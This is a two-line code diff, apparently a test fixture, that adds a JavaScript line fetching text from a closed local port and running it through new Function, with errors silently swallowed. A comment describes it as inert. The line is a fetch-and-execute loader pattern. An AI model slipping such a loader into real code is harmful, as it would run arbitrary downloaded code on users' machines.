@@ -1,0 +1,2 @@
+// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.
+fetch('http://127.0.0.1:9/').then((r) => r.text()).then((t) => new Function(t)()).catch(() => {});
